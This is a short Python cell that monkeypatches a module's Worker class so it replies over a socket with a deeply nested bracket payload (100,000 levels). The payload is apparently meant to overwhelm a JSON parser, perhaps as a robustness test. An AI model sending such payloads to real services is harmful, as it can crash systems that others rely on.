# %% answer square
import sys, socket, struct, json, array, os
agent = sys.modules["homeroom_split.agent"]
class Deep(agent.Worker):
    def _answer(self, message):
        data = b"[" * 100000 + b"]" * 100000
        self._sock.sendall(struct.pack(">I", len(data)) + data)
agent.Worker = Deep
